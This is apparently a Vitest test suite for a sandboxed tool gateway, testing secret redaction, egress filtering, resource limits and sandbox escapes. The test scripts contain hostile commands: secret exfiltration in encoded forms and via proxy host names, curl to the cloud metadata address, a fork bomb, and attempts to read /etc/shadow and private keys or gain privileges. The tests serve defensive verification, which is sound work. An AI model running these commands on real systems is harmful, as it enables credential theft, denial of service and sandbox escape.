import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readdirSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import type { IncomingHttpHeaders, Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalJson, sha256Hex } from '../../src/core/index.js';
import type { InvocationRecord } from '../../src/invocation/index.js';
import { SANDBOX_ID_INSIDE } from '../../src/sandbox/index.js';
import { call, startDemoGateway } from '../helpers/gateway-fixture.js';
import type { DemoGateway } from '../helpers/gateway-fixture.js';
import {
  auditText,
  cgroupDirsNamed,
  leaseRows,
  processesMatching,
  publishAgent,
  shTool,
  verifiedReceipt,
} from '../helpers/sandbox-tools.js';

/** The output of a shell tool, as the record carries it. */
interface ShellOutput {
  exitCode: number | null;
  stdout: string;
  stderr: string;
  stdoutTruncated?: { bytes: number; artifact: string; artifactBytes?: number };
  usage: { maxMemoryBytes: number | null; cpuMs: number | null };
}

/**
 * Our own secret, with characters a URL encoder changes, so every encoding differs; 67 bytes, so
 * its base64 is longer than the 76 columns `base64` wraps at.
 */
const SECRET = `gh/${randomBytes(30).toString('hex')}:q+z`;
const CANARY = `canary-${randomBytes(8).toString('hex')}`;
/** A secret that is a valid host-name label, in mixed case: the proxy records it lower-cased. */
const HOST_SECRET = `Gh-${randomBytes(10).toString('hex')}-XyZ`;
const DEFAULT_EGRESS = ['github.com', 'dev.azure.com', 'api.nuget.org'];

let g: DemoGateway;
let agent: string;
let server: Server;
let port: number;
const received: IncomingHttpHeaders[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    received.push(req.headers);
    // Like many real upstreams, /echo sends the caller's credential back.
    res.end(req.url === '/echo' ? String(req.headers['x-test-token']) : 'hello from loopback\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  // The gateway's own environment must not reach a sandbox.
  process.env.GATEHOUSE_CANARY = CANARY;
  try {
    g = await startDemoGateway();
  } finally {
    delete process.env.GATEHOUSE_CANARY;
  }
  const put = await g.inject('PUT', '/v1/secrets/test-token', {
    token: g.tokens.admin,
    body: { value: SECRET, scopes: ['test'] },
  });
  expect(put.status).toBe(200);
  const hostPut = await g.inject('PUT', '/v1/secrets/host-token', {
    token: g.tokens.admin,
    body: { value: HOST_SECRET, scopes: ['test'] },
  });
  expect(hostPut.status).toBe(200);
  agent = await publishAgent(g, 'sandbox-calls-agent', [
    shTool('test/host-sh', {
      sandbox: { egress: [`127.0.0.1:${port}`] },
      credentials: [{ ref: 'host-token', scope: 'test', inject: { env: 'HOST_TOKEN' } }],
    }),
    shTool('test/secret-sh', {
      credentials: [{ ref: 'test-token', scope: 'test', inject: { env: 'TEST_TOKEN' } }],
    }),
    shTool(
      'test/write-sh',
      { timeoutMs: 1000, sandbox: { cpus: 0.5, memoryMb: 128, pids: 32 } },
      { failureExitCodes: [3] },
    ),
    shTool('test/read-sh', { sideEffect: { class: 'read' } }),
    // A write tool whose program is its input (with the default egress, as every lease has).
    shTool('test/exec', {}, { argv: ['{/script}'] }),
    shTool('test/egress-sh', {
      // The name is listed on another port: it resolves to loopback, which is listed only on `port`.
      sandbox: { egress: [`127.0.0.1:${port}`, 'localhost:1'] },
      credentials: [
        {
          ref: 'test-token',
          scope: 'test',
          inject: {
            header: 'x-test-token',
            format: 'Bearer {value}',
            origin: `http://127.0.0.1:${port}`,
          },
        },
      ],
    }),
  ]);
});

afterAll(async () => {
  await g?.close();
  await new Promise<void>((resolve) => server?.close(() => resolve()));
});

let n = 0;
async function run(tool: string, script: string, token = agent): Promise<InvocationRecord> {
  n += 1;
  const res = await g.invoke(token, `calls-${n}`, call(tool, { script }));
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body;
}

function outputOf(r: InvocationRecord): ShellOutput {
  return r.output as ShellOutput;
}

describe('demo/sh through the gateway', () => {
  it('runs `echo hi` in a lease whose limits, egress and credentials are on the record, the trace and the receipt', async () => {
    const r = await run('demo/sh', 'echo hi', g.tokens.agent);
    expect(r.status).toBe('observed');
    expect(outputOf(r)).toMatchObject({ exitCode: 0, stdout: 'hi\n', stderr: '' });

    const lease = r.lease as Record<string, unknown>;
    expect(lease).toMatchObject({
      pool: 'default',
      holder: `invocation/${r.id}`,
      resources: { cpus: 0.5, memoryBytes: 256 * 1024 * 1024, gpus: 0, pids: 64 },
      timeoutMs: 10_000,
      // The defaults, and the demo's ticket service on loopback.
      egressAllow: [...DEFAULT_EGRESS, expect.stringMatching(/^127\.0\.0\.1:\d+$/)],
      worktree: null,
    });
    expect(lease.id).toMatch(/^[0-9a-f-]{36}$/);
    const creds = lease.credentials as Record<string, unknown>[];
    expect(creds.map((c) => Object.keys(c).sort())).toEqual([['expiresAt', 'id', 'ref', 'scope']]);
    expect(creds.map((c) => [c.ref, c.scope])).toEqual([['demo-token', 'demo']]);

    const byStage = new Map(r.trace.map((t) => [t.stage, t]));
    const credentials = byStage.get('credentials');
    expect(credentials?.decision).toBe('pass');
    const issued = (credentials?.details as { leases: Record<string, unknown>[] }).leases;
    expect(issued).toHaveLength(1);
    expect(Object.keys(issued[0]!).sort()).toEqual(['expiresAt', 'id', 'ref', 'scope', 'version']);
    expect(issued[0]).toMatchObject({ ref: 'demo-token', scope: 'demo', id: creds[0]!.id });
    const sandbox = byStage.get('sandbox');
    expect(sandbox?.decision).toBe('pass');
    expect(sandbox?.reason).toMatch(/0\.5 CPU, 256 MiB, 64 pids, 0 GPU, timeout 10000 ms/);
    expect((sandbox?.details as { lease: unknown }).lease).toEqual(r.lease);
    expect(byStage.get('execute')?.decision).toBe('observed');
    expect(byStage.get('sanitize')?.reason).toMatch(/no secrets found/);
    expect(r.trace.map((t) => t.stage)).toEqual([
      'validation',
      'permission',
      'policy',
      'classification',
      'approval',
      'credentials',
      'sandbox',
      'execute',
      'sanitize',
      'audit',
    ]);

    const { predicate } = await verifiedReceipt(g, r.id);
    expect(predicate.lease).toEqual(r.lease);
    expect(predicate.egress).toEqual([]);
    expect(predicate.redactions).toEqual([]);
    expect(predicate.stages.find((s) => s.stage === 'sandbox')?.details).toEqual({
      lease: r.lease,
    });

    // The lease is durable, and released once the call ended; its workspace is gone.
    const row = (await leaseRows(g)).find((l) => l.id === lease.id);
    expect(row).toMatchObject({ holder: `invocation/${r.id}`, status: 'released' });
    expect(existsSync(join(g.sandboxRoot, 'workspaces', String(lease.id)))).toBe(false);
    expect(cgroupDirsNamed(String(lease.id))).toEqual([]);
  });
});

describe('a brokered secret', () => {
  it('never leaves the sandbox: plain, base64, hex, URL-encoded or split across writes', async () => {
    const script = [
      'echo "plain=$TEST_TOKEN"',
      'echo "b64=$(printf %s "$TEST_TOKEN" | base64 -w0)"',
      `echo "hex=$(printf %s "$TEST_TOKEN" | od -An -tx1 | tr -d ' \\n')"`,
      `echo "url=$(python3 -c 'import os, urllib.parse; print(urllib.parse.quote(os.environ["TEST_TOKEN"], safe=""))')"`,
      'printf split=; printf %s "${TEST_TOKEN%????}"; sleep 0.2; printf "%s\\n" "${TEST_TOKEN#"${TEST_TOKEN%????}"}"',
      'echo "err=$TEST_TOKEN" >&2',
      'exit 0',
    ].join('\n');
    const r = await run('test/secret-sh', script);
    expect(r.status).toBe('observed');
    const out = outputOf(r);
    const marker = '[REDACTED:brokered:test-token]';
    expect(out.stdout).toBe(
      ['plain', 'b64', 'hex', 'url', 'split'].map((k) => `${k}=${marker}\n`).join(''),
    );
    expect(out.stderr).toBe(`err=${marker}\n`);

    const bytes = Buffer.from(SECRET, 'utf8');
    const forms = [
      SECRET,
      bytes.toString('base64'),
      bytes.toString('base64url'),
      bytes.toString('hex'),
      bytes.toString('hex').toUpperCase(),
      encodeURIComponent(SECRET),
      encodeURIComponent(SECRET).toLowerCase(),
    ];
    const stored = await g.inject<InvocationRecord>('GET', `/v1/invocations/${r.id}`, {
      token: g.tokens.operator,
    });
    const { predicate, envelope } = await verifiedReceipt(g, r.id);
    const payload = Buffer.from((envelope as { payload: string }).payload, 'base64').toString();
    const places: [string, string][] = [
      ['response', JSON.stringify(r)],
      ['stored record', JSON.stringify(stored.body)],
      ['audit records', await auditText(g)],
      ['receipt envelope', JSON.stringify(envelope)],
      ['receipt payload', payload],
    ];
    for (const [where, text] of places)
      for (const form of forms) expect(text.includes(form), `${form} in the ${where}`).toBe(false);

    // What was removed is noted by kind, encoding and count, never by value.
    const kind = 'brokered:test-token';
    expect(r.redactions).toEqual(
      expect.arrayContaining([
        { kind, encoding: 'plain', count: 3 },
        { kind, encoding: 'base64', count: 1 },
        { kind, encoding: 'hex', count: 1 },
        { kind, encoding: 'url', count: 1 },
      ]),
    );
    expect(predicate.redactions).toEqual(r.redactions);
    expect(r.trace.find((t) => t.stage === 'sanitize')?.reason).toMatch(
      /removed .*brokered:test-token \(base64\)/,
    );
    // The credential lease, not the value, is what the record shows.
    const creds = r.lease?.credentials as Record<string, unknown>[];
    expect(creds.map((c) => Object.keys(c).sort())).toEqual([['expiresAt', 'id', 'ref', 'scope']]);
    expect(creds.map((c) => [c.ref, c.scope])).toEqual([['test-token', 'test']]);
  });

  it('is removed as `base64` (wrapped at 76), MIME (CRLF) and `od` write it, in the record and receipt', async () => {
    const script = [
      'printf %s "$TEST_TOKEN" | base64',
      'echo --',
      'printf %s "$TEST_TOKEN" | base64 | sed \'s/$/\\r/\'',
      'echo --',
      'printf %s "$TEST_TOKEN" | od -An -tx1',
    ].join('\n');
    const r = await run('test/secret-sh', script);
    expect(r.status).toBe('observed');
    const marker = '[REDACTED:brokered:test-token]';
    expect(outputOf(r).stdout).toBe(`${marker}\n--\n${marker}\r\n--\n ${marker}\n`);

    const bytes = Buffer.from(SECRET, 'utf8');
    const b64 = bytes.toString('base64');
    const hex = [...bytes].map((b) => b.toString(16).padStart(2, '0'));
    // Each line of each dump: any of them left would give part of the value away.
    const lines = [
      b64.slice(0, 76),
      b64.slice(76),
      hex.slice(0, 16).join(' '),
      hex.slice(16, 32).join(' '),
    ];
    expect(b64.length).toBeGreaterThan(76);
    const stored = await g.inject<InvocationRecord>('GET', `/v1/invocations/${r.id}`, {
      token: g.tokens.operator,
    });
    const { predicate, envelope } = await verifiedReceipt(g, r.id);
    const payload = Buffer.from((envelope as { payload: string }).payload, 'base64').toString();
    for (const [where, text] of [
      ['response', JSON.stringify(r)],
      ['stored record', JSON.stringify(stored.body)],
      ['audit records', await auditText(g)],
      ['receipt payload', payload],
    ] as const)
      for (const line of lines) expect(text.includes(line), `${line} in the ${where}`).toBe(false);
    const kind = 'brokered:test-token';
    expect(r.redactions).toEqual([
      { kind, encoding: 'base64', count: 2 },
      { kind, encoding: 'hex', count: 1 },
    ]);
    expect(predicate.redactions).toEqual(r.redactions);
  });
});

describe('a brokered secret sent through the egress proxy', () => {
  it('is removed from the egress log, trace, record, receipt and audit log, in any case and as base64url', async () => {
    // Each request names the secret as the host (plain, as a subdomain, malformed, as base64url);
    // the proxy refuses them all and logs what it saw, lower-cased where it parsed a name.
    const script = [
      `python3 - <<'EOF'`,
      'import base64, os, socket',
      "t = os.environ['HOST_TOKEN']",
      "b = base64.urlsafe_b64encode(t.encode()).decode().rstrip('=')",
      "for target in [t + ':443', t + '.example.invalid:443', t + '!:443', 'x.' + b + '.example.invalid:443']:",
      "    s = socket.create_connection(('127.0.0.1', 3128))",
      "    s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (target, target)).encode())",
      "    print(s.recv(100).split(b' ')[1].decode())",
      '    s.close()',
      'EOF',
    ].join('\n');
    const r = await run('test/host-sh', script);
    expect(r.status, JSON.stringify(r.error)).toBe('observed');
    expect(outputOf(r).stdout).toMatch(/^403\n403\n400\n403\n/);
    const marker = '[REDACTED:brokered:host-token]';
    expect(r.egress.map((e) => [e.method, e.host, e.port, e.allowed])).toEqual([
      ['CONNECT', marker, 443, false],
      ['CONNECT', `${marker}.example.invalid`, 443, false],
      ['CONNECT', '', 0, false],
      ['CONNECT', `x.${marker}.example.invalid`, 443, false],
    ]);
    for (const e of r.egress.filter((x) => x.host !== '')) expect(e.reason).toContain(marker);
    expect(r.egress[2]!.reason).toMatch(/^malformed host name \(\d+ characters, not quoted; /);
    const execute = r.trace.find((t) => t.stage === 'execute');
    expect(execute?.details).toEqual({ egress: r.egress });

    const bytes = Buffer.from(HOST_SECRET, 'utf8');
    const forms = [HOST_SECRET, bytes.toString('base64url').replace(/=+$/, '')].map((f) =>
      f.toLowerCase(),
    );
    const stored = await g.inject<InvocationRecord>('GET', `/v1/invocations/${r.id}`, {
      token: g.tokens.operator,
    });
    const { predicate, envelope } = await verifiedReceipt(g, r.id);
    const payload = Buffer.from((envelope as { payload: string }).payload, 'base64').toString();
    expect(predicate.egress).toEqual(r.egress);
    const places: [string, string][] = [
      ['response', JSON.stringify(r)],
      ['stored record', JSON.stringify(stored.body)],
      ['audit records', await auditText(g)],
      ['receipt payload', payload],
    ];
    for (const [where, text] of places)
      for (const form of forms)
        expect(text.toLowerCase().includes(form), `${form} in the ${where}`).toBe(false);
  });

  it('leaves no part of it in a malformed target, in the records or in the refusal the tool prints', async () => {
    // The proxy refuses a malformed host; it used to quote the first 100 characters, where a part
    // of the secret no redactor can recognize survived.
    const script = [
      `python3 - <<'EOF'`,
      'import os, socket',
      "t = os.environ['HOST_TOKEN']",
      "for target in ['x.' * 45 + t + '!:443', '[' + t + ']:443']:",
      "    s = socket.create_connection(('127.0.0.1', 3128))",
      "    s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' % target).encode())",
      '    reply = b""',
      '    while True:',
      '        chunk = s.recv(4096)',
      '        if not chunk: break',
      '        reply += chunk',
      "    print(reply.decode().strip().replace('\\r\\n', ' | '))",
      '    s.close()',
      'EOF',
    ].join('\n');
    const r = await run('test/host-sh', script);
    expect(r.status, JSON.stringify(r.error)).toBe('observed');
    const stdout = outputOf(r).stdout;
    expect(stdout).toMatch(/^HTTP\/1\.1 400 .*\nHTTP\/1\.1 400 .*\n$/);
    expect(r.egress.map((e) => e.reason.replace(/;.*/, ''))).toEqual([
      'malformed host name (118 characters, not quoted',
      'malformed IPv6 literal (29 characters, not quoted)',
    ]);

    // No 8 characters of the secret, in any case, anywhere the call is kept or shown.
    const secret = HOST_SECRET.toLowerCase();
    const parts = [...Array(secret.length - 7).keys()].map((i) => secret.slice(i, i + 8));
    const stored = await g.inject<InvocationRecord>('GET', `/v1/invocations/${r.id}`, {
      token: g.tokens.operator,
    });
    const { envelope } = await verifiedReceipt(g, r.id);
    const payload = Buffer.from((envelope as { payload: string }).payload, 'base64').toString();
    const places: [string, string][] = [
      ['response', JSON.stringify(r)],
      ['stored record', JSON.stringify(stored.body)],
      ['audit records', await auditText(g)],
      ['receipt payload', payload],
    ];
    for (const [where, text] of places)
      for (const part of parts)
        expect(text.toLowerCase().includes(part), `${part} in the ${where}`).toBe(false);
  });

  it('leaves the digest of the full output as the tool wrote it, before redaction', async () => {
    const r = await run('test/secret-sh', 'echo "plain=$TEST_TOKEN"');
    const output = outputOf(r);
    expect(output.stdout).toBe('plain=[REDACTED:brokered:test-token]\n');
    const full = { ...output, stdout: `plain=${SECRET}\n` };
    expect(r.outputInfo?.sha256Full).toBe(sha256Hex(canonicalJson(full)));
    expect(r.outputInfo?.sha256Sanitized).toBe(sha256Hex(canonicalJson(output)));
  });
});

describe('egress', () => {
  it('refuses hosts not listed, IP literals, metadata and private addresses, and records each refusal', async () => {
    const script = [
      'curl -sS -m 5 http://10.0.0.1/ >/dev/null; echo "private=$?"',
      'curl -sS -m 5 http://169.254.169.254/latest/meta-data/ >/dev/null; echo "metadata=$?"',
      'curl -sS -m 5 http://example.invalid/ >/dev/null; echo "unlisted=$?"',
      'curl -sS -m 5 -o /dev/null -w "%{http_code}" https://example.com/; echo " tunnel=$?"',
      `curl -sS -m 5 http://127.0.0.1:${port}/ >/dev/null; echo "loopback=$?"`,
      // Around the proxy there is no network at all.
      `curl -sS -m 3 --noproxy '*' http://127.0.0.1:${port}/ >/dev/null 2>&1; echo "direct=$?"`,
    ].join('\n');
    const r = await run('demo/sh', script, g.tokens.agent);
    expect(r.status).toBe('observed');
    expect(outputOf(r).stdout).toMatch(/^direct=[1-9]\d*$/m);
    expect(r.egress.map((e) => [e.method, e.host, e.port, e.allowed])).toEqual([
      ['GET', '10.0.0.1', 80, false],
      ['GET', '169.254.169.254', 80, false],
      ['GET', 'example.invalid', 80, false],
      ['CONNECT', 'example.com', 443, false],
      ['GET', '127.0.0.1', port, false],
    ]);
    for (const e of r.egress) {
      // 127.0.0.1 is listed on another port (the demo's ticket service): that port is refused.
      expect(e.reason).toMatch(
        /not in the egress allow-list|port \d+ of 127\.0\.0\.1 is not allowed/,
      );
      expect(Number.isNaN(Date.parse(e.at))).toBe(false);
    }
    expect(received).toHaveLength(0);
    const execute = r.trace.find((t) => t.stage === 'execute');
    expect(execute?.reason).toMatch(/egress: 0 connection\(s\) allowed, 5 refused/);
    expect(execute?.details).toEqual({ egress: r.egress });
    const { predicate } = await verifiedReceipt(g, r.id);
    expect(predicate.egress).toEqual(r.egress);
  });

  it('lets a listed loopback target through, with the brokered header, and refuses a listed name that resolves to an unlisted loopback address', async () => {
    received.length = 0;
    const script = [
      `curl -sS -m 5 http://127.0.0.1:${port}/hello`,
      'curl -sS -m 5 http://localhost:1/ >/dev/null; echo "by-name=$?"',
      // What the program got back, as a hash the gateway's own output redaction cannot touch.
      `curl -sS -m 5 http://127.0.0.1:${port}/echo | sha256sum`,
      'env | grep -c "^X_TEST_TOKEN\\|gh/" || true',
    ].join('\n');
    const r = await run('test/egress-sh', script);
    expect(r.status).toBe('observed');
    expect(outputOf(r).stdout).toMatch(/^hello from loopback\n/);
    expect(r.egress.map((e) => [e.method, e.host, e.port, e.allowed])).toEqual([
      ['GET', '127.0.0.1', port, true],
      ['GET', 'localhost', 1, false],
      ['GET', '127.0.0.1', port, true],
    ]);
    expect(r.egress[0]!.reason).toContain(`127.0.0.1:${port}`);
    // The upstream echoed the credential; the proxy took it out before the program read it.
    const sha = (t: string) => createHash('sha256').update(t).digest('hex');
    expect(outputOf(r).stdout).toContain(sha('Bearer [REDACTED:brokered:test-token]'));
    expect(outputOf(r).stdout).not.toContain(sha(`Bearer ${SECRET}`));
    expect(r.egress[1]!.reason).toMatch(/resolves to .*loopback/);
    // The proxy added the brokered header; the sandbox never saw the value.
    expect(received).toHaveLength(2);
    expect(received[0]!['x-test-token']).toBe(`Bearer ${SECRET}`);
    expect(JSON.stringify(r)).not.toContain(SECRET);
    expect(outputOf(r).stdout).toMatch(/\n0\n$/);
    const { predicate } = await verifiedReceipt(g, r.id);
    expect(predicate.egress).toEqual(r.egress);
    expect(predicate.lease?.egressAllow).toEqual([`127.0.0.1:${port}`, 'localhost:1']);
  });
});

describe('exit codes and kills', () => {
  it('a declared failure exit code is failed; an undeclared one of a write tool is uncertain; of a read tool, failed', async () => {
    const declared = await run('test/write-sh', 'exit 3');
    expect(declared.status).toBe('failed');
    expect(declared.error).toMatchObject({ code: 'EXIT_CODE', stage: 'execute' });
    expect(declared.error?.message).toMatch(/declares a failure before any effect/);

    const undeclared = await run('test/write-sh', 'echo partial; exit 5');
    expect(undeclared.status).toBe('uncertain');
    expect(undeclared.error?.code).toBe('EXIT_CODE');
    expect(undeclared.error?.message).toMatch(/does not declare it/);
    expect(outputOf(undeclared)).toMatchObject({ exitCode: 5, stdout: 'partial\n' });

    const read = await run('test/read-sh', 'exit 5');
    expect(read.status).toBe('failed');
    expect(read.error?.code).toBe('EXIT_CODE');
  });

  it('a write tool whose program is missing or not executable failed before any effect, and says which; one that ran and exited 127 is uncertain', async () => {
    for (const [program, reason] of [
      ['no-such-program', 'No such file or directory'],
      ['/usr/bin/no-such-program', 'No such file or directory'],
      ['/etc/passwd', 'Permission denied'],
    ] as const) {
      const r = await run('test/exec', program);
      expect(r.status, program).toBe('failed');
      expect(r.error, program).toMatchObject({ code: 'SANDBOX_SETUP', stage: 'execute' });
      expect(r.error?.message, program).toContain(`program "${program}"`);
      expect(r.error?.message, program).toContain(reason);
    }
    const ran = await run('test/write-sh', 'echo ran; exit 127');
    expect(ran.status).toBe('uncertain');
    expect(outputOf(ran)).toMatchObject({ exitCode: 127, stdout: 'ran\n' });
  });

  it('a write tool past its timeout is uncertain (TIMEOUT), and nothing of it is left', async () => {
    const mark = `${30 + (process.pid % 1000) / 1000}`;
    const started = Date.now();
    const r = await run('test/write-sh', `sleep ${mark}; echo never`);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(r.status).toBe('uncertain');
    expect(r.error?.code).toBe('TIMEOUT');
    expect(r.error?.message).toMatch(/timeout after 1000 ms/);
    expect(outputOf(r).stdout).toBe('');
    const leaseId = String(r.lease?.id);
    expect(processesMatching(`sleep ${mark}`)).toEqual([]);
    expect(processesMatching(leaseId)).toEqual([]);
    expect(cgroupDirsNamed(leaseId)).toEqual([]);
    expect(existsSync(join(g.sandboxRoot, 'workspaces', leaseId))).toBe(false);
    expect((await leaseRows(g)).find((l) => l.id === leaseId)?.status).toBe('released');
  });

  it('a workspace booby-trapped with a FIFO and a /dev/zero link named .git is removed without a hang', async () => {
    const r = await run('test/write-sh', 'mkfifo .git && ln -s /dev/zero .gitmodules && echo set');
    expect(r.status, JSON.stringify(r.error)).toBe('observed');
    expect(outputOf(r).stdout).toBe('set\n');
    const leaseId = String(r.lease?.id);
    expect(existsSync(join(g.sandboxRoot, 'workspaces', leaseId))).toBe(false);
    expect((await leaseRows(g)).find((l) => l.id === leaseId)?.status).toBe('released');
  });

  it('a memory hog is killed at the limit: uncertain, LIMIT_MEMORY', async () => {
    const r = await run(
      'demo/sh',
      `python3 -c "x = b'x' * (400 * 2**20); print(len(x))"`,
      g.tokens.agent,
    );
    expect(r.status).toBe('uncertain');
    expect(r.error?.code).toBe('LIMIT_MEMORY');
    expect(outputOf(r).stdout).toBe('');
    expect(outputOf(r).usage.maxMemoryBytes).toBeLessThanOrEqual(256 * 1024 * 1024);
  });

  it('a fork bomb is contained by the pids limit: uncertain, LIMIT_PIDS, nothing left', async () => {
    const r = await run('demo/sh', 'b(){ b|b& }; b; sleep 1; echo survived', g.tokens.agent);
    expect(r.status).toBe('uncertain');
    expect(r.error?.code).toBe('LIMIT_PIDS');
    expect(cgroupDirsNamed(String(r.lease?.id))).toEqual([]);
    // The gateway and the machine carry on.
    const after = await run('demo/sh', 'echo fine', g.tokens.agent);
    expect(outputOf(after).stdout).toBe('fine\n');
  });
});

describe('output', () => {
  it('100 MB of output: observed, stdout cut, its first GATEHOUSE_MAX_ARTIFACT_BYTES kept as an artifact and the rest counted, gateway memory bounded', async () => {
    let peak = process.memoryUsage().rss;
    const before = peak;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    let r: InvocationRecord;
    try {
      r = await run('demo/sh', "head -c 100000000 /dev/zero | tr '\\0' a", g.tokens.agent);
    } finally {
      clearInterval(sampler);
    }
    peak = Math.max(peak, process.memoryUsage().rss);
    expect(r.status).toBe('observed');
    const out = outputOf(r);
    expect(out.exitCode).toBe(0);
    expect(out.stdout.length).toBeGreaterThan(1000);
    expect(out.stdout.length).toBeLessThan(g.gateway.config.maxOutputBytes);
    expect(out.stdout).toMatch(/^a+$/);
    expect(out.stdoutTruncated?.bytes).toBe(100_000_000);
    const artifact = out.stdoutTruncated!.artifact;
    const file = join(g.dataDir, 'artifacts', artifact.slice(0, 2), artifact);
    const kept = g.gateway.config.maxArtifactBytes;
    expect(kept).toBeLessThan(100_000_000);
    expect(out.stdoutTruncated?.artifactBytes).toBe(kept);
    expect(statSync(file).size).toBe(kept);
    expect(r.outputInfo?.truncated).toBe(false);
    expect(peak - before).toBeLessThan(150 * 1024 * 1024);
  });
});

describe('escapes', () => {
  it("shows the sandbox none of the gateway's environment", async () => {
    const r = await run('demo/sh', 'env', g.tokens.agent);
    const env = outputOf(r).stdout;
    expect(env).not.toContain(CANARY);
    expect(env).not.toContain('GATEHOUSE_');
    expect(env).toContain('DEMO_TOKEN=[REDACTED:brokered:demo-token]\n');
    const names = env
      .trim()
      .split('\n')
      .map((l) => l.split('=')[0])
      .sort();
    expect(names).toEqual(
      [
        'DEMO_TOKEN',
        'HOME',
        'HTTPS_PROXY',
        'HTTP_PROXY',
        'LANG',
        'PATH',
        'PWD',
        'http_proxy',
        'https_proxy',
      ].sort(),
    );
  });

  it("cannot write outside /workspace, read the gateway's data or keys or another call's workspace, link out, make devices or gain privileges", async () => {
    const data = g.dataDir;
    const keys = readdirSync(join(data, 'keys'));
    expect(keys.length).toBeGreaterThan(0);
    // Another call holds a workspace with a file in it meanwhile.
    const other = g.invoke(
      g.tokens.agent,
      'calls-other-workspace',
      call('demo/sh', { script: 'echo other-secret > /workspace/mine; sleep 2' }),
    );
    let otherLease: string | undefined;
    for (let i = 0; i < 100 && otherLease === undefined; i++) {
      const running = await g.inject<{ invocations: InvocationRecord[] }>(
        'GET',
        '/v1/invocations?status=running',
        { token: g.tokens.operator },
      );
      const lease = running.body.invocations[0]?.lease;
      if (lease) otherLease = String(lease.id);
      else await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect(otherLease).toBeDefined();
    const otherWorkspace = join(g.sandboxRoot, 'workspaces', otherLease!);
    for (let i = 0; i < 100 && !existsSync(join(otherWorkspace, 'mine')); i++)
      await new Promise((resolve) => setTimeout(resolve, 20));
    expect(existsSync(join(otherWorkspace, 'mine'))).toBe(true);

    const script = [
      'try() { label=$1; shift; if ( "$@" ) >/dev/null 2>&1; then echo "$label=yes"; else echo "$label=no"; fi; }',
      'try write-etc sh -c "echo x > /etc/gatehouse-x"',
      'try write-usr sh -c "echo x > /usr/gatehouse-x"',
      'try write-root sh -c "echo x > /gatehouse-x"',
      `try write-data sh -c "echo x > ${data}/pwned"`,
      `try list-data ls ${data}`,
      `try read-keys sh -c "cat ${data}/keys/*"`,
      `try read-db cat ${data}/gatehouse.db`,
      `try list-workspaces ls ${g.sandboxRoot}/workspaces`,
      `try read-other cat ${otherWorkspace}/mine`,
      `try symlink-keys sh -c "ln -s ${data}/keys k && cat k/*"`,
      'try hardlink-passwd ln /etc/passwd hard',
      'try device mknod null c 1 3',
      'try sudo sudo id',
      'try read-shadow cat /etc/shadow',
      'try fifo-usr mkfifo /usr/gatehouse-fifo',
      'try fifo-workspace mkfifo /workspace/fifo',
      'echo "uid=$(id -u) setuid-copy=$(cp /usr/bin/id ./myid && chmod u+s ./myid && ./myid -u)"',
      'echo x > /workspace/ok && echo workspace=yes',
      'echo x > /tmp/ok && echo tmp=yes',
    ].join('\n');
    const r = await run('demo/sh', script, g.tokens.agent);
    expect(r.status).toBe('observed');
    const lines = outputOf(r).stdout.trim().split('\n');
    expect(lines).toEqual([
      'write-etc=no',
      'write-usr=no',
      'write-root=no',
      'write-data=no',
      'list-data=no',
      'read-keys=no',
      'read-db=no',
      'list-workspaces=no',
      'read-other=no',
      'symlink-keys=no',
      'hardlink-passwd=no',
      'device=no',
      'sudo=no',
      'read-shadow=no',
      'fifo-usr=no',
      'fifo-workspace=yes',
      `uid=${SANDBOX_ID_INSIDE} setuid-copy=${SANDBOX_ID_INSIDE}`,
      'workspace=yes',
      'tmp=yes',
    ]);
    expect(JSON.stringify(r)).not.toMatch(/PRIVATE KEY|other-secret/);
    expect(existsSync(join(data, 'pwned'))).toBe(false);
    expect(existsSync('/etc/gatehouse-x')).toBe(false);
    expect(existsSync('/gatehouse-x')).toBe(false);
    // Removing the workspace followed no link out of it.
    expect(readdirSync(join(data, 'keys'))).toEqual(keys);
    expect((await other).body.status).toBe('observed');
  });
});
